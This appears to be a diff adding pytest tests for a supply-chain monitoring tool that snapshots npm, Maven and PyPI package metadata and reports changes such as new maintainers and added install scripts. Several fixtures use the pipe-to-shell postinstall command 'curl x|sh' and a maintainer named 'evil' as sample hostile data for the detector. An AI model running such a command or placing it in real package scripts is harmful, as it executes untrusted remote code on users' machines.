@@ -0,0 +1,165 @@
+import os
+
+from snapshot import snapshot_and_diff, mark_dirty, _extract_pypi
+from utils import save_json
+
+
+def npm_doc(versions, maintainers, scripts=None, dependencies=None):
+    latest = versions[-1]
+    docs = {v: {} for v in versions}
+    docs[latest] = {"scripts": scripts or {}, "dependencies": dependencies or {}}
+    return {
+        "dist-tags": {"latest": latest},
+        "maintainers": [{"name": m} for m in maintainers],
+        "versions": docs,
+    }
+
+
+def maven_doc(versions):
+    return {
+        "group_id": "g",
+        "artifact_id": "a",
+        "latest_version": versions[-1],
+        "versions": versions,
+        "pom_content": "<project><developers><developer><id>jd</id></developer></developers></project>",
+    }
+
+
+def write(base, name, doc, ecosystem="npm"):
+    """Write a record the way a downloader does"""
+    ecosystem_dir = os.path.join(base, ecosystem)
+    save_json(doc, os.path.join(ecosystem_dir, "metadata", f"{name}.json"))
+    mark_dirty(ecosystem_dir, [name])
+
+
+def events(changes):
+    return {(c["type"], c.get("script") or c.get("maintainer") or c.get("dependency")
+             or c.get("version")) for c in changes}
+
+
+def test_baseline_reports_nothing(tmp_path):
+    write(tmp_path, "foo", npm_doc(["1.0.0"], ["a"]))
+    assert snapshot_and_diff(str(tmp_path), ["npm"]) == []
+
+
+def test_version_maintainer_script_and_dependency_changes(tmp_path):
+    write(tmp_path, "foo", npm_doc(["1.0.0", "1.0.1"], ["a"],
+                                   scripts={"install": "node a.js", "prepare": "tsc"},
+                                   dependencies={"x": "^1", "z": "1"}))
+    snapshot_and_diff(str(tmp_path), ["npm"])
+
+    doc = npm_doc(["1.0.1", "1.1.0"], ["evil"], dependencies={"x": "^2", "y": "1"})
+    doc["versions"]["1.0.1"]["scripts"] = {"install": "node b.js", "postinstall": "curl x|sh"}
+    write(tmp_path, "foo", doc)
+    changes = snapshot_and_diff(str(tmp_path), ["npm"])
+
+    assert events(changes) == {
+        ("new_version", "1.1.0"),
+        ("version_removed", "1.0.0"),
+        ("maintainer_added", "evil"),
+        ("maintainer_removed", "a"),
+        ("install_script_added", "postinstall"),
+        ("install_script_changed", "install"),
+        ("install_script_removed", "prepare"),
+        ("dependency_added", "y"),
+        ("dependency_changed", "x"),
+        ("dependency_removed", "z"),
+    }
+    assert all(c["version"] == "1.0.1" for c in changes if c["type"].startswith("install_script"))
+    assert os.listdir(tmp_path / "npm" / "indexes" / "changes")
+
+
+def test_unchanged_rewrite_is_not_rehashed(tmp_path):
+    doc = npm_doc(["1.0.0"], ["a"])
+    write(tmp_path, "foo", doc)
+    snapshot_and_diff(str(tmp_path), ["npm"])
+    mtime = os.stat(tmp_path / "npm" / "metadata" / "foo.json").st_mtime_ns
+
+    write(tmp_path, "foo", doc)
+    assert os.stat(tmp_path / "npm" / "metadata" / "foo.json").st_mtime_ns == mtime
+    assert snapshot_and_diff(str(tmp_path), ["npm"]) == []
+
+
+def test_new_package_reports_contents(tmp_path):
+    write(tmp_path, "foo", npm_doc(["1.0.0"], ["a"]))
+    snapshot_and_diff(str(tmp_path), ["npm"])
+
+    write(tmp_path, "bar", npm_doc(["0.0.1"], ["b"], scripts={"postinstall": "curl x|sh"},
+                                   dependencies={"x": "1"}))
+    changes = snapshot_and_diff(str(tmp_path), ["npm"])
+
+    assert all(c["package"] == "bar" for c in changes)
+    assert events(changes) == {
+        ("package_added", None),
+        ("maintainer_added", "b"),
+        ("install_script_added", "postinstall"),
+        ("dependency_added", "x"),
+    }
+
+
+def test_unreadable_record_keeps_previous_fingerprint(tmp_path):
+    write(tmp_path, "foo", npm_doc(["1.0"], ["a"]))
+    snapshot_and_diff(str(tmp_path), ["npm"])
+
+    path = tmp_path / "npm" / "metadata" / "foo.json"
+    path.write_text('{"dist-tags": {"lat')
+    mark_dirty(str(tmp_path / "npm"), ["foo"])
+    assert snapshot_and_diff(str(tmp_path), ["npm"]) == []
+
+    write(tmp_path, "foo", npm_doc(["1.0", "1.1"], ["evil"], scripts={"postinstall": "curl x|sh"}))
+    changes = snapshot_and_diff(str(tmp_path), ["npm"])
+
+    assert events(changes) == {
+        ("new_version", "1.1"),
+        ("maintainer_added", "evil"),
+        ("maintainer_removed", "a"),
+        ("install_script_added", "postinstall"),
+    }
+
+
+def test_removed_record_is_reported(tmp_path):
+    write(tmp_path, "foo", npm_doc(["1.0.0"], ["a"]))
+    snapshot_and_diff(str(tmp_path), ["npm"])
+
+    os.remove(tmp_path / "npm" / "metadata" / "foo.json")
+    mark_dirty(str(tmp_path / "npm"), ["foo"])
+    assert events(snapshot_and_diff(str(tmp_path), ["npm"])) == {("package_removed", None)}
+
+
+def test_install_script_in_non_latest_version(tmp_path):
+    doc = npm_doc(["1.0.0", "2.0.0"], ["a"])
+    write(tmp_path, "foo", doc)
+    snapshot_and_diff(str(tmp_path), ["npm"])
+
+    doc["versions"]["1.0.1"] = {"scripts": {"postinstall": "curl x|sh", "test": "jest"}}
+    doc["versions"]["3.0.0-beta"] = {"scripts": {"preinstall": "node x.js"}}
+    write(tmp_path, "foo", doc)
+    changes = snapshot_and_diff(str(tmp_path), ["npm"])
+
+    scripts = {(c["version"], c["script"]) for c in changes if c["type"] == "install_script_added"}
+    assert scripts == {("1.0.1", "postinstall"), ("3.0.0-beta", "preinstall")}
+
+
+def test_maven_release_does_not_remove_previous_version(tmp_path):
+    write(tmp_path, "g_a", maven_doc(["1.0"]), "maven")
+    snapshot_and_diff(str(tmp_path), ["maven"])
+
+    write(tmp_path, "g_a", maven_doc(["1.0", "1.1"]), "maven")
+    assert events(snapshot_and_diff(str(tmp_path), ["maven"])) == {("new_version", "1.1")}
+
+    write(tmp_path, "g_a", maven_doc(["1.1"]), "maven")
+    assert events(snapshot_and_diff(str(tmp_path), ["maven"])) == {("version_removed", "1.0")}
+
+
+def test_pypi_dependencies_keep_markers_and_normalise_names():
+    deps = _extract_pypi({"info": {"requires_dist": [
+        "Foo_Bar (>=1.0); python_version < '3.8'",
+        "foo-bar>=2; python_version >= '3.8'",
+        "Baz.Qux[extra]",
+    ]}})["dependencies"]
+
+    assert deps == {
+        "foo-bar; python_version < '3.8'": "(>=1.0)",
+        "foo-bar; python_version >= '3.8'": ">=2",
+        "baz-qux": "[extra]",
+    }